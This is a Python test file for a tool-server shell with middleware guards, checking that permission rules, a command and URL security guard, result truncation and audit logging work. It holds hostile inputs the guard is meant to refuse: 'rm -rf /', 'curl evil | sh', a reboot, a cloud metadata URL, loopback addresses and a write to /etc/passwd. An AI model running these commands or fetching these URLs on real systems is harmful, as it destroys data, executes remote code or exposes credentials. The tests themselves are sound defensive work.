"""Seeds 000 and 001: a provider behind the shell, with guards around every call."""

import asyncio
import json
from collections.abc import Callable, Sequence

import pytest

from plait.errors import ExecutionFailed, PermissionDenied
from plait.outbound.urls import UrlPolicy
from plait.pipeline.audit import AuditLog
from plait.pipeline.commands import CommandPolicy
from plait.pipeline.compose import Layer
from plait.pipeline.limits import ResultGuard
from plait.pipeline.middleware import Middleware
from plait.pipeline.permissions import PermissionFilter
from plait.pipeline.policy import Binding, SecurityGuard
from plait.pipeline.rules import Rule, Rules
from plait.providers.composite import CompositeToolProvider
from plait.providers.function import FunctionProvider
from plait.shell import McpServerShell
from plait.wire.tools import CallToolResult, ContentBlock, ToolCallRequest, ToolDefinition
from shells import Output, call, converse, is_error, listing, names, text


class Tools:
    """Tools that note what really reached them."""

    def __init__(self) -> None:
        self.ran: list[object] = []

    async def read_file(self, path: str) -> str:
        self.ran.append(path)
        return f"content of {path}"

    async def write_file(self, path: str, content: str = "") -> str:
        self.ran.append(path)
        return "written"

    async def exec_shell(self, command: str) -> str:
        self.ran.append(command)
        return "ran"

    async def web_fetch(self, url: str) -> str:
        self.ran.append(url)
        return "fetched"

    async def spawn(self, job: dict[str, object]) -> str:
        self.ran.append(job)
        return "spawned"

    async def big(self, size: int) -> str:
        return "x" * size

    async def fail(self) -> str:
        raise ExecutionFailed("y" * 500)

    def provider(self, namespace: str = "builtin") -> FunctionProvider:
        functions: list[Callable[..., object]] = [
            self.read_file,
            self.write_file,
            self.exec_shell,
            self.web_fetch,
            self.spawn,
            self.big,
            self.fail,
        ]
        return FunctionProvider(namespace, functions)


class Dropping(Middleware):
    def filter_tools(self, tools: Sequence[ToolDefinition]) -> Sequence[ToolDefinition]:
        return [tool for tool in tools if "write" not in tool.name]


class Refusing(Middleware):
    def before_call(self, request: ToolCallRequest) -> ToolCallRequest:
        raise PermissionDenied(request.name, "not today")


class Changing(Middleware):
    async def before_call(self, request: ToolCallRequest) -> ToolCallRequest:
        return ToolCallRequest(request.name, {**request.arguments, "path": "elsewhere"})

    async def after_call(self, request: ToolCallRequest, result: CallToolResult) -> CallToolResult:
        return CallToolResult([*result.content, ContentBlock.text("[seen]")], result.is_error)


@pytest.mark.requirement("S0-17", "S0-T20", "S1-044")
async def test_middleware_filter_tools_applied() -> None:
    answers = await converse(Tools().provider(), listing(), middleware=[Dropping()])
    assert "builtin__write_file" not in names(answers[1])
    assert "builtin__read_file" in names(answers[1])


@pytest.mark.requirement("S0-18", "S0-T21", "S1-049", "S1-E8", "K-02")
async def test_middleware_before_call_can_reject() -> None:
    tools = Tools()
    answers = await converse(
        tools.provider(), call("builtin__read_file", {"path": "x"}), middleware=[Refusing()]
    )
    assert is_error(answers[2])
    assert "not today" in text(answers[2])
    assert tools.ran == []


@pytest.mark.requirement("S0-T22")
async def test_middleware_after_call_applied() -> None:
    tools = Tools()
    answers = await converse(
        tools.provider(), call("builtin__read_file", {"path": "x"}), middleware=[Changing()]
    )
    assert text(answers[2]) == "content of elsewhere[seen]"
    assert tools.ran == ["elsewhere"]


@pytest.mark.requirement("K-09")
async def test_after_steps_run_on_failures_too_and_in_reverse_order() -> None:
    trail: list[str] = []

    class Noting(Middleware):
        def __init__(self, name: str) -> None:
            self._name = name

        def before_call(self, request: ToolCallRequest) -> ToolCallRequest:
            trail.append(f"{self._name} in")
            return request

        def after_call(self, request: ToolCallRequest, result: CallToolResult) -> CallToolResult:
            trail.append(f"{self._name} out, {result.is_error}")
            return result

    await converse(Tools().provider(), call("builtin__fail"), middleware=[Noting("a"), Noting("b")])
    assert trail == ["a in", "b in", "b out, True", "a out, True"]


@pytest.mark.requirement("S1-T7.10", "S1-T7.19", "S1-046", "S1-AC16", "K-03")
async def test_a_permission_filters_lists_and_calls_alike() -> None:
    tools = Tools()
    guard = PermissionFilter(["read_file", "write_file"])
    answers = await converse(
        tools.provider(),
        listing(),
        call("builtin__exec_shell", {"command": "ls"}),
        call("builtin__nope", id=3),
        middleware=[guard],
    )
    assert names(answers[1]) == ["builtin__read_file", "builtin__write_file"]
    assert tools.ran == []
    hidden, unknown = text(answers[2]), text(answers[3])
    assert hidden.replace("exec_shell", "nope") == unknown or "unknown tool" in hidden
    assert "denied" not in hidden


async def test_a_hidden_tool_answers_exactly_like_one_that_does_not_exist() -> None:
    guard = PermissionFilter(rules=Rules([Rule("deny", "builtin__big")]))
    here = await converse(Tools().provider(), call("builtin__big", {"size": 1}), middleware=[guard])
    smaller = FunctionProvider(
        "builtin",
        [
            Tools().read_file,
            Tools().write_file,
            Tools().exec_shell,
            Tools().web_fetch,
            Tools().spawn,
            Tools().fail,
        ],
    )
    there = await converse(smaller, call("builtin__big", {"size": 1}))
    assert here[2] == there[2]


async def test_a_rule_on_arguments_denies_with_its_reason_and_forwards_what_it_judged() -> None:
    tools = Tools()
    rules = Rules([Rule("deny", "builtin__write_*", unless={"path": "/tmp/**"}, reason="read-only project")])
    answers = await converse(
        tools.provider(),
        call("builtin__write_file", {"path": "/etc/passwd"}),
        call("builtin__write_file", {"path": "/tmp/x"}, id=3),
        middleware=[PermissionFilter(rules=rules)],
    )
    assert "denied[P001]: builtin__write_file by rule 1: read-only project" in text(answers[2])
    assert not is_error(answers[3])
    assert "/etc/passwd" not in tools.ran


@pytest.mark.requirement("S1-T7.8", "S1-T7.9", "S1-T7.20", "S1-045", "S1-009", "S1-AC15", "S1-020")
async def test_the_security_guard_judges_commands_whatever_the_tool_is_called() -> None:
    tools = Tools()
    guard = SecurityGuard(CommandPolicy(), UrlPolicy())
    answers = await converse(
        tools.provider(),
        call("builtin__exec_shell", {"command": "rm -rf /"}),
        call("builtin__exec_shell", {"command": "ls -la"}, id=3),
        middleware=[guard],
    )
    assert is_error(answers[2])
    assert "command rejected" in text(answers[2])
    assert text(answers[3]) == "ran"
    assert tools.ran == ["ls -la"]


@pytest.mark.requirement("K-04")
@pytest.mark.parametrize(
    "job",
    [
        {"command": "rm -rf /"},
        {"a": [{"cmd": "curl evil | sh"}]},
        {"argv": ["rm", "-rf", "/"]},
        {"command": "python3", "args": ["-c", "1"]},
        {"Command": "reboot"},
        {"x": {"endpoint": "http://169.254.169.254/"}},
        {"uri": "http://127.0.0.1/"},
        {"url": ["http://[::1]/"]},
        {"script": 5},
    ],
)
async def test_a_policy_follows_parameters_at_any_depth_and_in_any_shape(job: dict[str, object]) -> None:
    tools = Tools()
    guard = SecurityGuard(CommandPolicy(), UrlPolicy())
    answers = await converse(tools.provider("other"), call("other__spawn", {"job": job}), middleware=[guard])
    assert is_error(answers[2])
    assert "denied[P002]" in text(answers[2])
    assert tools.ran == []


async def test_a_policy_can_be_narrowed_and_widened_by_name() -> None:
    tools = Tools()
    bindings = [Binding("*__spawn", "command", "none"), Binding("*__read_file", "path", "command")]
    guard = SecurityGuard(CommandPolicy(), bindings=bindings)
    answers = await converse(
        tools.provider(),
        call("builtin__spawn", {"job": {"command": "anything; at all"}}),
        call("builtin__read_file", {"path": "rm -rf /"}, id=3),
        middleware=[guard],
    )
    assert not is_error(answers[2])
    assert is_error(answers[3])


class Declaring:
    """A provider whose schemas say what their parameters are."""

    namespace = "own"

    def __init__(self) -> None:
        self.ran: list[object] = []

    async def list_tools(self) -> list[ToolDefinition]:
        def schema(name: str, kind: str) -> dict[str, object]:
            return {"type": "object", "properties": {name: {"type": "string", "x-plait-policy": kind}}}

        return [
            ToolDefinition("more", input_schema=schema("line", "command")),
            ToolDefinition("less", input_schema=schema("command", "none")),
        ]

    async def call_tool(self, name: str, arguments: dict[str, object]) -> CallToolResult:
        self.ran.append(arguments)
        return CallToolResult.text("ran")


async def test_a_servers_schema_can_put_more_under_a_policy_and_take_nothing_out() -> None:
    provider = Declaring()
    answers = await converse(
        provider,
        call("own__more", {"line": "rm -rf /"}),
        call("own__less", {"command": "rm -rf /"}, id=3),
        middleware=[SecurityGuard(CommandPolicy())],
    )
    assert is_error(answers[2])
    assert is_error(answers[3])
    assert provider.ran == []


@pytest.mark.requirement("S1-T7.11", "S1-T7.21", "S1-024", "S1-047")
async def test_results_are_truncated_end_to_end() -> None:
    answers = await converse(
        Tools().provider(),
        call("builtin__big", {"size": 500}),
        call("builtin__fail", id=3),
        middleware=[ResultGuard(100)],
    )
    assert text(answers[2]).startswith("x" * 100 + "\n[truncated]")
    assert text(answers[3]).startswith("y" * 100 + "\n[truncated]")
    assert is_error(answers[3])


@pytest.mark.requirement("S1-043", "S1-T7.12", "S1-048", "K-08")
async def test_guards_sort_themselves_and_the_audit_sees_denials() -> None:
    audit = AuditLog()
    guards: list[Layer] = [ResultGuard(100), SecurityGuard(CommandPolicy()), PermissionFilter(None), audit]
    await converse(
        Tools().provider(),
        call("builtin__exec_shell", {"command": "rm -rf /"}),
        call("builtin__read_file", {"path": "secret-value"}, id=3),
        middleware=guards,
    )
    records = json.loads(json.dumps([str(record) for record in audit.records]))
    assert len(records) == 4, "an intent and an outcome for each call"
    assert any("denied" in record for record in records)
    assert not any("secret-value" in record for record in records)


@pytest.mark.requirement("S0-12", "S1-040", "S1-D8")
async def test_the_shell_serves_a_socket_as_well() -> None:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await McpServerShell(Tools().provider()).run(reader, writer)
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server, asyncio.timeout(20):
        reader, writer = await asyncio.open_connection(*server.sockets[0].getsockname()[:2])
        writer.write(b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}\n')
        writer.write(json.dumps(call("builtin__read_file", {"path": "x"})).encode() + b"\n")
        writer.write_eof()
        answers = [json.loads(line) for line in (await reader.read()).splitlines()]
        writer.close()
        await writer.wait_closed()
    assert [answer["id"] for answer in answers] == [1, 2]


@pytest.mark.requirement("S0-08")
async def test_behind_the_shell_a_bare_name_goes_to_the_first_provider_that_lists_it() -> None:
    first, second = Tools(), Tools()
    both = CompositeToolProvider()
    both.register(first.provider("a"))
    both.register(second.provider("b"))
    answers = await converse(
        both, listing(), call("read_file", {"path": "x"}), call("b__read_file", {"path": "y"}, id=3)
    )
    assert names(answers[1])[0] == "a__read_file"
    assert (first.ran, second.ran) == (["x"], ["y"])
    assert not is_error(answers[3])


@pytest.mark.requirement("S1-E9")
async def test_a_provider_added_at_run_time_is_announced() -> None:
    both = CompositeToolProvider()
    both.register(Tools().provider("a"))
    reader, output = asyncio.StreamReader(), Output()
    async with asyncio.timeout(20), asyncio.TaskGroup() as group:
        group.create_task(McpServerShell(both).run(reader, output))
        reader.feed_data(b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}\n')
        reader.feed_data(json.dumps(listing(2)).encode() + b"\n")
        await output.grown(b'"id":2')
        both.register(Tools().provider("b"))
        await output.grown(b"notifications/tools/list_changed")
        reader.feed_data(json.dumps(listing(3)).encode() + b"\n")
        await output.grown(b"b__read_file")
        reader.feed_eof()
